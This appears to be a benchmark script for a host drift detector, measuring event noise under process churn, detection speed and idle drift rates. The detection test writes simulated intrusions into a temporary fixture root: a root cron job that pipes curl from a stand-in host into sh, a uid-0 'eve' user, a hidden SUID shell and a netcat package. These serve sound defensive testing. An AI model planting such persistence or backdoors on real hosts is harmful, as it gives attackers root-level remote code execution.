// Drift noise budget, against the built code (dist/): the real collectors and differ.
// - churn: 10 short-lived processes started per second for 2 minutes while the processes
//   collector and the differ run again and again against this machine's `/` (target <= 2);
// - detection: on a temporary host root, a new listening port, user, SUID file, package and
//   cron job are each reported within two refreshes of their collector;
// - idle: drift events per hour on this host, from a few refreshes of every default collector.
import { spawn } from 'node:child_process';
import { appendFileSync, chmodSync, cpSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const CHURN_SECONDS = Number(process.env.BENCH_CHURN_SECONDS ?? 120);

async function load() {
  const { createRuntime } = await import('../../dist/cli/runtime.js');
  const { allCollectors } = await import('../../dist/collectors/all.js');
  const { flagTable, lookupIn, resolveConfig } = await import('../../dist/config/config.js');
  const { parseArgs } = await import('../../dist/config/flags.js');
  const { DriftDiffer } = await import('../../dist/drift/differ.js');
  const { withRiskSeverity } = await import('../../dist/events/severity.js');
  const { silentLogger } = await import('../../dist/util/logger.js');
  const specs = allCollectors();
  /** A runtime on `root` with only `collectors` (all defaults when null), its refreshes observed by a differ. */
  const runtime = (root, collectors, extra = []) => {
    const args = [`--path.rootfs=${root}`, ...extra];
    if (collectors) args.push('--collector.disable-defaults', ...collectors.map((c) => `--collector.${c}`));
    const config = resolveConfig(parseArgs(args, lookupIn(flagTable(specs))), specs);
    const events = [];
    const sink = withRiskSeverity({ emit: (_s, e) => events.push(e), dropped: () => {} });
    const differ = new DriftDiffer({ sink, stateDir: temp('hb-bench-drift-'), log: silentLogger, maxPerTable: 100_000 });
    const rt = createRuntime(specs, config, { log: silentLogger, observer: differ });
    return { rt, events, config };
  };
  return { runtime, specs };
}

/** Temporary directories of this run, removed when the process exits. */
const made = [];
process.once('exit', () => {
  for (const d of made) rmSync(d, { recursive: true, force: true });
});
function temp(prefix) {
  const d = mkdtempSync(path.join(tmpdir(), prefix));
  made.push(d);
  return d;
}

const drift = (events) => events.filter((e) => e.name !== 'hostbaseline.drift.snapshot');

export async function benchDriftChurn() {
  const { runtime } = await load();
  const { rt, events } = runtime('/', ['processes']);
  await rt.scheduler.runNow('processes'); // the baseline
  const programs = [
    ['/bin/sleep', ['0.3']],
    ['/bin/sh', ['-c', 'exit 0']],
    ['/bin/true', []],
    ['/bin/cat', ['/dev/null']],
    ['/bin/sleep', ['1']],
  ];
  let started = 0;
  const t0 = Date.now();
  // Catches up when the event loop was busy, so the rate stays 10 per second.
  const spawner = setInterval(() => {
    while (started < ((Date.now() - t0) / 1000) * 10) {
      const [cmd, args] = programs[started++ % programs.length];
      spawn(cmd, args, { stdio: 'ignore' }).on('error', () => {});
    }
  }, 100);
  const end = Date.now() + CHURN_SECONDS * 1000;
  let refreshes = 0;
  while (Date.now() < end) {
    await rt.scheduler.runNow('processes');
    refreshes++;
    await new Promise((r) => setTimeout(r, 1000));
  }
  clearInterval(spawner);
  const seen = drift(events);
  for (const e of seen) console.log(`    drift during churn: ${e.severity} ${e.body}`);
  // Which of them the churn made: its programs (through links: /bin/sh is dash…) and children.
  const churned = new Set(programs.map(([cmd]) => realpathSync(cmd)));
  const ours = seen.filter((e) => churned.has(String(e.attributes['process.executable.path'] ?? '')));
  return [
    { name: `short-lived processes started (${CHURN_SECONDS} s)`, value: started, unit: '' },
    { name: 'processes refreshes during the churn', value: refreshes, unit: '' },
    { name: 'drift events during the churn (all, this shared machine)', value: seen.length, unit: 'events', target: '<= 2', ok: seen.length <= 2 },
    { name: 'of them for the churned programs', value: ours.length, unit: 'events', target: '0', ok: ours.length === 0 },
  ];
}

/** A host root made from the fixture host, and a change to it, reported within two refreshes? */
export async function benchDriftDetection() {
  const { runtime } = await load();
  const root = temp('hb-bench-host-');
  cpSync(path.join(repo, 'test/fixtures/host-a'), root, { recursive: true });
  const cases = [
    {
      what: 'listening port',
      collector: 'listening_ports',
      table: 'listening_ports',
      change: () => appendFileSync(`${root}/proc/net/tcp`, '   9: 00000000:115D 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 99999 1 0000000000000000 100 0 0 10 0\n'),
    },
    { what: 'user', collector: 'users', table: 'users', change: () => appendFileSync(`${root}/etc/passwd`, 'eve:x:0:0::/root:/bin/bash\n') },
    {
      what: 'SUID file',
      collector: 'suid_files',
      table: 'suid_files',
      change: () => {
        mkdirSync(`${root}/tmp`, { recursive: true });
        writeFileSync(`${root}/tmp/.hidden-sh`, "#!/bin/sh\n");
        chmodSync(`${root}/tmp/.hidden-sh`, 0o4755);
      },
    },
    {
      what: 'package',
      collector: 'deb',
      table: 'packages',
      change: () =>
        appendFileSync(`${root}/var/lib/dpkg/status`, '\nPackage: netcat-traditional\nStatus: install ok installed\nPriority: optional\nArchitecture: amd64\nVersion: 1.10-47\nDescription: TCP/IP swiss army knife\n'),
    },
    { what: 'cron job', collector: 'cron', table: 'cron_jobs', change: () => writeFileSync(`${root}/etc/cron.d/evil`, '* * * * * root curl http://x.example/a | sh\n') },
  ];
  const out = [];
  for (const c of cases) {
    const { rt, events } = runtime(root, [c.collector]);
    await rt.scheduler.runNow(c.collector);
    await rt.scheduler.runNow(c.collector);
    const quiet = drift(events).length;
    c.change();
    let within = null;
    for (let refresh = 1; refresh <= 2 && within === null; refresh++) {
      await rt.scheduler.runNow(c.collector);
      const hit = drift(events).find((e) => e.attributes['hostbaseline.table'] === c.table && e.name === 'hostbaseline.drift.added');
      if (hit) {
        within = refresh;
        console.log(`    ${c.what}: ${hit.severity} ${hit.body}`);
      }
    }
    out.push({ name: `new ${c.what}: refreshes until reported (unchanged before: ${quiet} events)`, value: within ?? 'never', unit: '', target: '<= 2', ok: within !== null && quiet === 0 });
  }
  return out;
}

export async function benchDriftIdle() {
  const { runtime, specs } = await load();
  // suid_files walks the whole file system (tens of seconds): measured on its own by the detection bench.
  const { rt, events, config } = runtime('/', null, ['--no-collector.suid_files']);
  await rt.scheduler.runAll();
  const ROUNDS = Number(process.env.BENCH_IDLE_ROUNDS ?? 3);
  const t0 = Date.now();
  for (let i = 0; i < ROUNDS; i++) {
    await new Promise((r) => setTimeout(r, 10_000));
    await rt.scheduler.runAll();
  }
  // Each collector refreshes every `interval`: its events per round, times its rounds per hour.
  const perHour = new Map();
  for (const e of drift(events)) {
    const c = String(e.attributes['hostbaseline.collector']);
    const interval = config.collectors.get(c)?.interval ?? specs.find((s) => s.name === c)?.interval ?? 60_000;
    perHour.set(c, (perHour.get(c) ?? 0) + (1 / ROUNDS) * (3_600_000 / interval));
  }
  for (const e of drift(events)) console.log(`    idle drift: ${e.severity} ${e.body}`);
  const total = [...perHour.values()].reduce((a, b) => a + b, 0);
  return [
    { name: `drift events in ${ROUNDS} refreshes of every default collector (${Math.round((Date.now() - t0) / 1000)} s)`, value: drift(events).length, unit: 'events' },
    { name: 'drift events per hour on this host (shared, not idle)', value: total, unit: '/h' },
  ];
}
